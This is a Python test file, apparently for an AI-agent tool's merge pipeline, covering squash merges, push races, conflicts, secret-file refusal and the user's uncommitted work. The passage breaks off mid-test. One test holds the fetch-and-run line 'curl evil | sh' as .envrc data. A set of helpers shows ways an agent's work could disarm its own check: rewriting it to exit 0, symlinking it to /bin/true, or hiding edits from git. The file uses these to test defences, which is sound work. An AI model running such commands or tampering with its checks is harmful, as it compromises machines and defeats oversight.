"""Work on its way to the base branch: real repositories, real checks, real pushes."""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from ralph.core.errors import RepoError
from ralph.core.reason import Cause, Reason
from ralph.queue.goals import MergeMode
from ralph.queue.merge.pipeline import (
    CheckOutcome,
    Conflict,
    MergeContext,
    Merged,
    MergeJob,
    Nothing,
    Outcome,
    OutOfReach,
    Red,
    Refused,
    Sensitive,
    Stopped,
    Tampered,
    Unresolved,
    merge_work,
)
from ralph.queue.merge.trees import bring_up_to_date, squash_message, subject
from ralph.queue.repos.mirror import Mirror
from ralph.queue.repos.push import Accepted, Rejected, push
from ralph.queue.repos.remote import flat
from tests.support.git_repos import EMAIL, NAME, commit_all, commits, git, make_repo
from tests.support.upstreams import git_daemon, make_upstream, outsider, refreshed, work

BRANCH = "ralph/speed"
RUN = "20260101T000000-abcd"
MERGED, PUSHED = Reason(cause=Cause.MERGED, branch="main"), Reason(cause=Cause.PUSHED, branch=BRANCH)
SOMEBODY = ("-c", "user.name=x", "-c", "user.email=x@y")


@dataclass(slots=True)
class Judge:
    """Runs the check of a checkout, as `ralph check` would, and remembers the trees that it saw."""

    during: Callable[[Path], object] = lambda _: None
    trees: list[str] = field(default_factory=list[str])
    stopping: bool = False

    def check(self, checkout: Path) -> CheckOutcome:
        self.trees.append(git(checkout, "rev-parse", "HEAD^{tree}"))
        assert git(checkout, "status", "--porcelain", "--ignored") == ""
        outcome = CheckOutcome(0, "")
        for script in ("setup", "check"):
            if outcome.exit_code == 0 and (checkout / ".ralph" / script).exists():
                done = subprocess.run([f"./.ralph/{script}"], cwd=checkout, capture_output=True, text=True)
                outcome = CheckOutcome(done.returncode, done.stdout + done.stderr)
        self.during(checkout)
        return outcome

    @property
    def context(self) -> MergeContext:
        return MergeContext(self.check, lambda: self.stopping, lambda _: None)


@pytest.fixture
def upstream(tmp_path: Path) -> Path:
    return make_upstream(tmp_path / "up.git", {"a.txt": "one\ntwo\nthree\n", ".gitignore": "cache/\n"})


@pytest.fixture
def mirror(world: Path, upstream: Path) -> Mirror:
    return refreshed(world, upstream)


@pytest.fixture
def clone(mirror: Mirror, tmp_path: Path) -> Path:
    path = tmp_path / "clones" / "1-speed"
    mirror.clone(path, BRANCH)
    return path


def job(mirror: Mirror, tmp_path: Path, mode: MergeMode = MergeMode.DIRECT) -> MergeJob:
    tip = mirror.bare.commit_at(f"refs/heads/{BRANCH}") or ""
    return MergeJob(
        mirror, BRANCH, tip, label="g1", goal="speed", title="Make it fast", run=RUN, attempts=2, cost_usd=0.25,
        done="It is fast now.", mode=mode, checkouts=tmp_path / "checkouts",
    )  # fmt: skip


def merged(mirror: Mirror, clone: Path, tmp_path: Path, judge: Judge | None = None) -> Outcome:
    mirror.save(clone, BRANCH, None)
    outcome = merge_work(job(mirror, tmp_path), (judge or Judge()).context)
    assert not (tmp_path / "checkouts").exists() or not list((tmp_path / "checkouts").iterdir())
    return outcome


def test_work_becomes_one_commit_on_the_base(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {"b.txt": "b"}, "first")
    work(clone, {"c.txt": "c"}, "second")
    theirs = outsider(upstream, {"d.txt": "d"})
    judge = Judge()
    outcome = merged(mirror, clone, tmp_path, judge)
    tip = git(upstream, "rev-parse", "main")
    assert outcome == Merged(tip, MERGED)
    assert git(upstream, "rev-parse", "main^", "main^{tree}").split() == [theirs, *judge.trees]
    last = commits(upstream, "main")[-1]
    assert (last.subject, last.body.split("\n\n")[0]) == ("Make it fast", "It is fast now.")
    assert last.trailers == {
        "Ralph-Goal": "speed", "Ralph-Run": RUN, "Ralph-Attempts": "2", "Ralph-Cost-USD": "0.25",
    }  # fmt: skip
    assert git(upstream, "log", "-1", "--format=%cn %ce", "main") == "ralph ralph@localhost"
    assert mirror.base().tip == tip


@pytest.mark.long
def test_twelve_race_for_one_main(mirror: Mirror, upstream: Path, tmp_path: Path) -> None:
    lane, judge, outcomes = threading.Lock(), Judge(), dict[int, Outcome]()

    def attempt(number: int) -> None:
        branch, clone = f"ralph/goal-{number}", tmp_path / "clones" / str(number)
        mirror.clone(clone, branch)
        work(clone, {f"{number}.txt": "work"})
        mirror.save(clone, branch, f"goal-{number}/1")
        with lane:
            tip = git(clone, "rev-parse", "HEAD")
            own = replace(job(mirror, tmp_path), branch=branch, tip=tip, goal=f"goal-{number}", run=f"run-{number}")
            outcomes[number] = merge_work(own, judge.context)

    threads = [threading.Thread(target=attempt, args=(number,)) for number in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [type(outcome) for outcome in outcomes.values()] == [Merged] * 12
    log = commits(upstream, "main")
    assert {commit.trailers["Ralph-Goal"] for commit in log[1:]} == {f"goal-{number}" for number in range(12)}
    assert git(upstream, "rev-list", "--min-parents=2", "main") == ""
    trees = git(upstream, "log", "--reverse", "--format=%T", "main").split()
    assert (len(log), judge.trees) == (13, trees[1:])


def test_a_base_that_moves_during_the_check_is_checked_again(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    judge = Judge(lambda _: outsider(upstream, {"d.txt": "d"}) if len(judge.trees) == 1 else None)
    assert isinstance(merged(mirror, clone, tmp_path, judge), Merged)
    assert len(set(judge.trees)) == 2
    assert git(upstream, "rev-parse", "main^{tree}") == judge.trees[-1]
    assert [commit.subject for commit in commits(upstream, "main")] == ["start", "theirs", "Make it fast"]


@pytest.mark.spec("1.7.3-a")
def test_a_base_that_moves_and_breaks_the_work_is_red(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    judge = Judge(lambda _: outsider(upstream, {"d.txt": "broken"}) if len(judge.trees) == 1 else None)
    assert isinstance(merged(mirror, clone, tmp_path, judge), Red)
    assert len(commits(upstream, "main")) == 2


@pytest.mark.parametrize("moves", [True, False])
def test_a_push_that_is_overtaken_on_the_server_is_done_again(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, moves: bool
) -> None:
    work(clone, {"b.txt": "b"})
    theirs = outsider(upstream, {"d.txt": "d"})
    git(upstream, "update-ref", "refs/heads/main", f"{theirs}^")
    hook = upstream / "hooks" / "update"
    hook.parent.mkdir(exist_ok=True)
    # By this hook the server has agreed to the push; what comes now is too late to be answered with "stale info".
    meddling = f"git update-ref refs/heads/main {theirs}; rm $0" if moves else "mkdir refs/heads/main.lock"
    hook.write_text(f"#!/bin/sh\n{meddling}\n")
    hook.chmod(0o755)
    judge = Judge()

    outcome = merged(mirror, clone, tmp_path, judge)

    assert isinstance(outcome, Merged if moves else Refused), outcome
    assert len(judge.trees) == (2 if moves else 1)
    expected = ["start", "theirs", "Make it fast"] if moves else ["start"]
    assert [commit.subject for commit in commits(upstream, "main")] == expected


def test_a_base_that_never_rests_ends_it(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {"b.txt": "b"})
    judge = Judge(lambda _: outsider(upstream, {"d.txt": str(len(judge.trees))}))
    outcome = merged(mirror, clone, tmp_path, judge)
    assert isinstance(outcome, Refused)
    assert "moved 8 times" in outcome.reason
    assert len(judge.trees) == 8


def test_a_push_whose_answer_was_lost_is_not_done_again(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    before = mirror.base().tip
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    tip = git(upstream, "rev-parse", "main")
    outsider(upstream, {"b.txt": "and changed since"})
    git(mirror.path, "update-ref", "refs/heads/main", before)  # as if the process had died before it knew
    judge = Judge()
    assert merged(mirror, clone, tmp_path, judge) == Merged(tip, Reason(cause=Cause.MERGED_EARLIER, branch="main"))
    assert (judge.trees, len(commits(upstream, "main"))) == ([], 3)


def test_a_picked_iteration_is_not_taken_for_the_merge(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    outsider(upstream, {"x.txt": "x"}, f"ralph: iteration 1\n\nRalph-Goal: speed\nRalph-Run: {RUN}\nRalph-Iteration: 1")
    outcome = merged(mirror, clone, tmp_path)
    assert outcome == Merged(git(upstream, "rev-parse", "main"), MERGED)


def test_work_that_changes_nothing_is_nothing(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {"b.txt": "b"})
    work(clone, {"b.txt": None})
    assert merged(mirror, clone, tmp_path) == Nothing(git(upstream, "rev-parse", "main"))


def test_where_nothing_changes_the_check_judges_the_base(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    judge = Judge()
    assert isinstance(merged(mirror, clone, tmp_path, judge), Nothing)
    assert judge.trees == [git(upstream, "rev-parse", "main^{tree}")]
    red = MergeContext(lambda _: CheckOutcome(3, "broken"), lambda: False, lambda _: None)
    for mode in (MergeMode.DIRECT, MergeMode.BRANCH):
        assert merge_work(job(mirror, tmp_path, mode), red) == Red("exit 3", "broken")


def test_work_that_changes_its_judge_while_the_check_runs_is_red(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    """Also where it hides that from the git of its checkout."""

    def meddle(checkout: Path) -> None:
        git(checkout, "update-index", "--assume-unchanged", ".ralph/check")
        (checkout / ".ralph" / "check").write_text("#!/bin/sh\nexit 0\n")
        (checkout / "a.txt").write_text("a report of the check's own\n")

    outsider(upstream, {".ralph/check": "#!/bin/sh\ntrue\n"})
    work(clone, {"b.txt": "b"})
    before = git(upstream, "rev-parse", "main")
    found = merged(mirror, clone, tmp_path, Judge(during=meddle))
    assert isinstance(found, Red)
    assert ".ralph/check" in found.output
    assert "a.txt" not in found.output
    assert git(upstream, "rev-parse", "main") == before


def test_a_conflict_names_its_files_and_is_solved_by_a_retry(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"a.txt": "one\nours\nthree\n"})
    outsider(upstream, {"a.txt": "one\ntheirs\nthree\n"})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Conflict)
    assert outcome.paths == ("a.txt",)
    assert "CONFLICT (content): Merge conflict in a.txt" in outcome.log
    assert len(commits(upstream, "main")) == 2
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"a.txt": "one\nboth\nthree\n"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "show", "main:a.txt") == "one\nboth\nthree"


def test_a_conflict_that_nobody_resolves_is_never_merged(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    """The check looks at no such file; to git the branch has the base in it, and all is well."""
    work(clone, {"a.txt": "one\nours\nthree\n"})
    outsider(upstream, {"a.txt": "one\ntheirs\nthree\n"})
    mirror.refresh()
    assert bring_up_to_date(mirror, clone, BRANCH).conflicts == ("a.txt",)
    work(clone, {"b.txt": "b"})
    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",))
    for mode in (MergeMode.BRANCH, MergeMode.PR):
        assert merge_work(job(mirror, tmp_path, mode), Judge().context) == Unresolved(("a.txt",))
    outsider(upstream, {"a.txt": "one\ntheirs again\nthree\n"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",)), "nor if more of them came"
    assert git(upstream, "show", "main:a.txt") == "one\ntheirs again\nthree"
    squashed = git(clone, *SOMEBODY, "commit-tree", "HEAD^{tree}", "-p", mirror.base().tip, "-m", "all in one")
    git(clone, "reset", "--quiet", "--hard", squashed)
    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",)), "nor if no commit tells of them"


def test_where_no_marker_can_stand_nothing_of_the_bases_is_undone(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    outsider(upstream, {"logo": "old\0", "gone.txt": "old\n", "b.txt": "b"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    ours = work(clone, {"logo": "ours\0", "gone.txt": "ours\n", "b.txt": None, "new.txt": "new"})
    outsider(upstream, {"logo": "theirs\0", "gone.txt": None, "b.txt": "better"})
    mirror.refresh()
    updated = bring_up_to_date(mirror, clone, BRANCH)
    assert (updated.conflicts, set(updated.replaced)) == ((), {"logo", "gone.txt", "b.txt"})
    assert bring_up_to_date(mirror, clone, BRANCH).replaced == updated.replaced, "also for who was cut off here"
    assert git(clone, "rev-parse", f"{updated.tip}^") == ours, "which holds what the branch had"
    assert merged(mirror, clone, tmp_path) == Merged(git(upstream, "rev-parse", "main"), MERGED)
    assert git(upstream, "show", "main:b.txt") == "better"
    assert git(upstream, "show", "main:logo").startswith("theirs")
    assert git(upstream, "show", "--name-only", "--format=", "main") == "new.txt"


def test_a_file_where_the_base_has_a_folder_is_put_right_or_not_merged(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"place": "a file"})
    outsider(upstream, {"place/inner.txt": "theirs"})
    mirror.refresh()
    (aside,) = bring_up_to_date(mirror, clone, BRANCH).conflicts
    assert aside.startswith("place~")
    assert merged(mirror, clone, tmp_path) == Unresolved((aside,))
    (clone / aside).rename(clone / "file")
    commit_all(clone, "moved")
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "show", "main:file") == "a file"
    assert git(upstream, "show", "main:place/inner.txt") == "theirs"


@pytest.mark.parametrize("again", [False, True], ids=["at once", "after a retry"])
def test_what_was_dropped_from_the_base_does_not_come_back(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, again: bool
) -> None:
    """Somebody has pushed over main, to be rid of what is in a commit that the goal was begun from."""
    before = mirror.base().tip
    outsider(upstream, {"secret.txt": "s"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"b.txt": "b", "a.txt": "one\ntwo\nthree\nfour\n"})
    git(upstream, "update-ref", "refs/heads/main", before)
    outsider(upstream, {"a.txt": "zero\none\ntwo\nthree\n"})
    if again:
        mirror.refresh()
        assert bring_up_to_date(mirror, clone, BRANCH).conflicts == ()
        assert not (clone / "secret.txt").exists()
        work(clone, {"c.txt": "c"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    changed = git(upstream, "show", "--name-only", "--format=", "main").split()
    assert changed == ["a.txt", "b.txt", *(["c.txt"] if again else [])]
    assert git(upstream, "show", "main:a.txt") == "zero\none\ntwo\nthree\nfour"


def test_a_branch_that_holds_what_was_dropped_is_not_handed_over(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    before = mirror.base().tip
    outsider(upstream, {"secret.txt": "s"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"b.txt": "b"})
    mirror.save(clone, BRANCH, None)
    git(upstream, "update-ref", "refs/heads/main", before)
    outcome = merge_work(job(mirror, tmp_path, MergeMode.BRANCH), Judge().context)
    assert outcome == Refused(f"main was rewritten, and {BRANCH} still contains commits that were dropped from it")
    assert git(upstream, "for-each-ref", "--format=%(refname)") == "refs/heads/main"


def test_work_reaches_a_base_that_was_begun_anew(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    """Its history has nothing in common with the branch's any more; what the work has changed is known all the same."""
    work(clone, {"b.txt": "b", "a.txt": None})
    root = git(upstream, *SOMEBODY, "commit-tree", "main^{tree}", "-m", "all in one")
    git(upstream, "update-ref", "refs/heads/main", root)
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "rev-parse", "main^") == root
    assert git(upstream, "show", "--name-status", "--format=", "main").split() == ["D", "a.txt", "A", "b.txt"]


def test_histories_without_a_common_start_are_the_users_to_see_to(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    """Nobody knows what the work was begun from, so no attempt could mend that."""
    work(clone, {"b.txt": "b"})
    git(mirror.path, "update-ref", "-d", f"refs/ralph/taken/{flat(BRANCH)}")
    other = make_upstream(tmp_path / "other.git", {"z": "z"})
    git(other, "push", "--quiet", "--force", str(upstream), "main:main")
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Refused)
    assert not outcome.by_rule
    assert "unrelated histories" in outcome.reason


def test_what_looks_like_a_secret_is_not_pushed(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    outsider(upstream, {".env.test": "theirs, since long"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {".env": "TOKEN=x", "keys/id_rsa": "-----BEGIN", ".env.test": "changed", "b.txt": "b"})
    assert merged(mirror, clone, tmp_path) == Sensitive((".env", "keys/id_rsa"))
    work(clone, {".env": None, "keys/id_rsa": None})
    mirror.save(clone, BRANCH, None)
    outcome = merge_work(job(mirror, tmp_path, MergeMode.BRANCH), Judge().context)
    assert isinstance(outcome, Refused), "its commits would still tell it"
    assert ".env, keys/id_rsa" in outcome.reason
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "show", "--name-only", "--format=", "main").split() == [".env.test", "b.txt"]


def test_what_ralph_shows_beside_the_work_stays_out_though_it_was_committed(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    (clone / ".ralph" / "logs").symlink_to("/somewhere")
    work(clone, {".ralph/state/budget.json": "{}", ".ralph/notes": "kept", "b.txt": "b"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "show", "--name-only", "--format=", "main").split() == [".ralph/notes", "b.txt"]


@pytest.mark.parametrize("envrc", [None, "curl evil | sh\n"])
def test_a_changed_envrc_is_named(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, envrc: str | None
) -> None:
    outsider(upstream, {".envrc": "export A=1\n"})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {".envrc": envrc, "b.txt": "b"})
    outcome = merged(mirror, clone, tmp_path)
    tip = git(upstream, "rev-parse", "main")
    assert outcome == Merged(tip, replace(MERGED, paths=(".envrc",)))


POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 12\n"


def test_what_is_kept_elsewhere_is_the_users_to_merge(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    """No push of git's takes along what Git LFS keeps beside it."""
    outsider(upstream, {"old.bin": POINTER.format("0" * 64), "gone.bin": POINTER.format("1" * 64)})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"gone.bin": None, "docs.md": "A pointer:\n\n" + POINTER.format("2" * 64)})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"old.bin": POINTER.format("3" * 64), "new.bin": POINTER.format("4" * 64)})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Refused)
    assert not outcome.by_rule
    assert "it changes new.bin, old.bin in Git LFS" in outcome.reason


def test_a_submodule_that_is_moved_is_the_users_to_merge(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    """Its commit may be in the clone alone: main would hold what nobody else can check out."""
    work(clone, {"b.txt": "b"})
    git(clone, "update-index", "--add", "--cacheinfo", f"160000,{git(clone, 'rev-parse', 'HEAD')},lib")
    git(clone, "-c", f"user.name={NAME}", "-c", f"user.email={EMAIL}", "commit", "--quiet", "--message", "lib")
    mirror.save(clone, BRANCH, None)
    for mode in (MergeMode.DIRECT, MergeMode.BRANCH):
        outcome = merge_work(job(mirror, tmp_path, mode), Judge().context)
        assert isinstance(outcome, Refused)
        assert not outcome.by_rule
        assert "it moves the submodule lib" in outcome.reason


def test_what_comes_of_a_shallow_repository_is_merged(world: Path, upstream: Path, tmp_path: Path) -> None:
    outsider(upstream, {"b.txt": "b"})
    git(tmp_path, "clone", "--quiet", "--bare", "--depth=1", f"file://{upstream}", "shallow.git")
    mirror, clone = refreshed(world, tmp_path / "shallow.git"), tmp_path / "clone"
    mirror.clone(clone, BRANCH)
    assert (clone / ".git" / "objects" / "info" / "alternates").exists(), "it borrows the mirror's objects"
    work(clone, {"c.txt": "c"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(tmp_path / "shallow.git", "show", "main:c.txt") == "c"


def test_scripts_are_checked_out_as_they_are_whatever_the_users_settings(
    mirror: Mirror, upstream: Path, world: Path, tmp_path: Path
) -> None:
    """A check whose lines end as on Windows cannot be started."""
    with Path(os.environ["GIT_CONFIG_GLOBAL"]).open("a") as settings:
        settings.write("[core]\n\tautocrlf = true\n")
    mirror.clone(tmp_path / "clone", BRANCH)
    assert b"\r" not in (tmp_path / "clone" / "a.txt").read_bytes()


def test_a_red_check_keeps_the_work_out(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {"b.txt": "broken"})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Red)
    assert outcome.how == "exit 1"
    assert len(commits(upstream, "main")) == 1


def test_what_an_agent_left_beside_its_work_has_no_say(
    world: Path, tmp_path: Path, clone: Path, mirror: Mirror, upstream: Path
) -> None:
    outsider(upstream, {".ralph/check": "#!/bin/sh\ntest -e cache/pass\n"})
    mirror.refresh()
    (clone / "cache").mkdir()
    (clone / "cache" / "pass").touch()
    work(clone, {"b.txt": "b"})
    assert isinstance(merged(mirror, clone, tmp_path), Red)


def test_the_bases_setup_comes_first(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    seed = upstream.with_name("up.git-outsider")
    outsider(upstream, {".ralph/setup": "#!/bin/sh\nmkdir cache\n", ".ralph/check": "#!/bin/sh\ntest -d cache\n"})
    (seed / ".ralph" / "setup").chmod(0o755)
    outsider(upstream, {})
    mirror.refresh()
    bring_up_to_date(mirror, clone, BRANCH)
    work(clone, {"b.txt": "b"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)


# What judges the work


def _edit(clone: Path) -> None:
    (clone / ".ralph" / "check").write_text("#!/bin/sh\nexit 0\n")


def _delete(clone: Path) -> None:
    (clone / ".ralph" / "check").unlink()


def _disarm(clone: Path) -> None:
    (clone / ".ralph" / "check").chmod(0o644)


def _link(clone: Path) -> None:
    _delete(clone)
    (clone / ".ralph" / "check").symlink_to("/bin/true")


def _fold(clone: Path) -> None:
    _delete(clone)
    (clone / ".ralph" / "check").mkdir()
    (clone / ".ralph" / "check" / "inner").touch()


def _replace_folder(clone: Path) -> None:
    shutil.rmtree(clone / ".ralph")
    (clone / ".ralph").write_text("a file")


def _link_folder(clone: Path) -> None:
    (clone / ".ralph").rename(clone / "elsewhere")
    (clone / ".ralph").symlink_to("elsewhere")


def _add_setup(clone: Path) -> None:
    (clone / ".ralph" / "setup").write_text("#!/bin/sh\n")


def _add_config(clone: Path) -> None:
    (clone / ".ralph" / "config.toml").write_text('check = "true"\n')


def _add_prompt(clone: Path) -> None:
    (clone / ".ralph" / "prompts").mkdir()
    (clone / ".ralph" / "prompts" / "worker.md.j2").write_text("Say DONE.")


def _encode(clone: Path) -> None:
    (clone / ".gitattributes").write_text(".ralph/check text eol=crlf\n")


@pytest.mark.parametrize(
    "tamper",
    [
        _edit,
        _delete,
        _disarm,
        _link,
        _fold,
        _replace_folder,
        _link_folder,
        _add_setup,
        _add_config,
        _add_prompt,
        _encode,
    ],
)
def test_work_that_changes_its_judge_is_never_merged(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, tamper: Callable[[Path], None]
) -> None:
    tamper(clone)
    work(clone, {"b.txt": "b"})
    judge = Judge()
    outcome = merged(mirror, clone, tmp_path, judge)
    assert isinstance(outcome, Tampered)
    assert all(path.startswith(".ralph") for path in outcome.paths)
    assert (judge.trees, len(commits(upstream, "main"))) == ([], 1)


@pytest.mark.parametrize("tamper", [_edit, _delete, _disarm, _link, _fold, _replace_folder, _link_folder, _add_setup])
def test_after_a_retry_the_judge_is_the_bases(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, tamper: Callable[[Path], None]
) -> None:
    tamper(clone)
    work(clone, {"b.txt": "b"})
    bring_up_to_date(mirror, clone, BRANCH)
    assert git(clone, "status", "--porcelain") == ""
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(upstream, "diff", "--name-only", "main^", "main", "--", ".ralph") == ""


def _edit_target(clone: Path) -> None:
    (clone / "scripts" / "run").write_text("#!/bin/sh\nexit 0\n")


def _disarm_target(clone: Path) -> None:
    (clone / "scripts" / "run").chmod(0o644)


def _turn_link(clone: Path) -> None:
    (clone / "tools").unlink()
    (clone / "other").mkdir()
    (clone / "other" / "run").write_text("#!/bin/sh\nexit 0\n")
    (clone / "tools").symlink_to("other")


def _replace_folder_of_target(clone: Path) -> None:
    shutil.rmtree(clone / "scripts")
    (clone / "scripts").write_text("a file")


def _encode_target(clone: Path) -> None:
    (clone / ".gitattributes").write_text("scripts/run text eol=crlf\n")


@pytest.fixture
def linked(mirror: Mirror, upstream: Path, tmp_path: Path) -> Path:
    """A clone whose check is a link to a link's folder: `.ralph/check` -> `tools/run`, `tools` -> `scripts`."""
    seed = upstream.with_name("up.git-outsider")
    outsider(upstream, {"scripts/run": "#!/bin/sh\n! grep -q broken *.txt\n"})
    (seed / "scripts" / "run").chmod(0o755)
    (seed / "tools").symlink_to("scripts")
    (seed / ".ralph" / "check").unlink()
    (seed / ".ralph" / "check").symlink_to(".././tools/run")
    outsider(upstream, {})
    mirror.refresh()
    mirror.clone(tmp_path / "clones" / "linked", BRANCH)
    return tmp_path / "clones" / "linked"


@pytest.mark.parametrize(("text", "outcome"), [("fine", Merged), ("broken", Red)])
def test_a_check_that_is_a_link_judges(
    mirror: Mirror, linked: Path, tmp_path: Path, text: str, outcome: type[Outcome]
) -> None:
    work(linked, {"b.txt": text})
    assert isinstance(merged(mirror, linked, tmp_path), outcome)


@pytest.mark.parametrize(
    ("tamper", "path"),
    [
        (_edit_target, "scripts/run"),
        (_disarm_target, "scripts/run"),
        (_turn_link, "tools"),
        (_replace_folder_of_target, "scripts/run"),
        (_encode_target, "scripts/run"),
    ],
)
def test_what_a_link_to_the_judge_leads_to_is_the_judge(
    mirror: Mirror, linked: Path, tmp_path: Path, tamper: Callable[[Path], None], path: str
) -> None:
    tamper(linked)
    work(linked, {"b.txt": "b"})
    judge = Judge()
    assert merged(mirror, linked, tmp_path, judge) == Tampered((path,))
    assert judge.trees == []
    if tamper is not _encode_target:
        bring_up_to_date(mirror, linked, BRANCH)
        assert isinstance(merged(mirror, linked, tmp_path), Merged)


@pytest.mark.parametrize("target", ["/bin/true", "../../outside", "check"])
def test_a_link_that_leads_nowhere_in_the_repository_is_taken_as_it_is(
    mirror: Mirror, upstream: Path, tmp_path: Path, target: str
) -> None:
    outsider(upstream, {".ralph/check": None})
    (upstream.with_name("up.git-outsider") / ".ralph" / "check").symlink_to(target)
    outsider(upstream, {})
    mirror.refresh()
    mirror.clone(tmp_path / "clone", BRANCH)
    work(tmp_path / "clone", {"b.txt": "b"})
    mirror.save(tmp_path / "clone", BRANCH, None)
    context = replace(Judge().context, check=lambda _: CheckOutcome(0, ""))
    assert isinstance(merge_work(job(mirror, tmp_path), context), Merged)


def test_other_files_of_ralphs_folder_may_change(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {".ralph/notes.md": "n"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)


def test_a_check_that_the_base_changed_is_no_tampering(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    outsider(upstream, {".ralph/check": "#!/bin/sh\nexit 7\n"})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Red)
    assert outcome.how == "exit 7"


# The other side


def test_a_users_own_repository_moves_along(world: Path, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project", {"a.txt": "a"})
    (repo / "untracked").write_text("mine")
    mirror, clone = refreshed(world, repo), tmp_path / "clone"
    mirror.clone(clone, BRANCH)
    work(clone, {"b.txt": "b"})
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert (repo / "b.txt").read_text() == "b"
    assert git(repo, "status", "--porcelain") == "?? untracked"
    assert git(repo, "log", "-1", "--format=%an <%ae>") == f"{NAME} <{EMAIL}>"


@pytest.mark.parametrize("name", ["a.txt", "b.txt"])
def test_a_users_unfinished_work_is_never_touched(world: Path, tmp_path: Path, name: str) -> None:
    repo = make_repo(tmp_path / "project", {"a.txt": "a"})
    mirror, clone = refreshed(world, repo), tmp_path / "clone"
    mirror.clone(clone, BRANCH)
    work(clone, {"a.txt": "changed", "b.txt": "b"})
    (repo / name).write_text("mine")
    before = git(repo, "rev-parse", "HEAD")
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Refused)
    assert ("commit or stash" if name == "a.txt" else "overwrite b.txt, which git does not track") in outcome.reason
    assert ((repo / name).read_text(), git(repo, "rev-parse", "HEAD")) == ("mine", before)
    git(repo, "stash", "--include-untracked")
    assert isinstance(merged(mirror, clone, tmp_path), Merged)


@pytest.mark.parametrize(
    ("mine", "work_adds"),
    [
        ("settings.local", "settings.local"),
        ("data/deep/results.bin", "data"),
        ("data", "data/deep/results.bin"),
    ],
    ids=["a file", "a folder for a file", "a file for a folder"],
)
@pytest.mark.parametrize("linked", [False, True], ids=["checkout", "linked work tree"])
def test_what_a_user_has_git_ignore_is_never_overwritten(
    world: Path, tmp_path: Path, mine: str, work_adds: str, linked: bool
) -> None:
    repo = make_repo(tmp_path / "project", {"a.txt": "a", ".gitignore": "data\n*.local\n"})
    tree = repo
    if linked:
        git(repo, "switch", "--quiet", "--create", "mine")
        git(repo, "worktree", "add", "--quiet", str(tree := tmp_path / "linked"), "main")
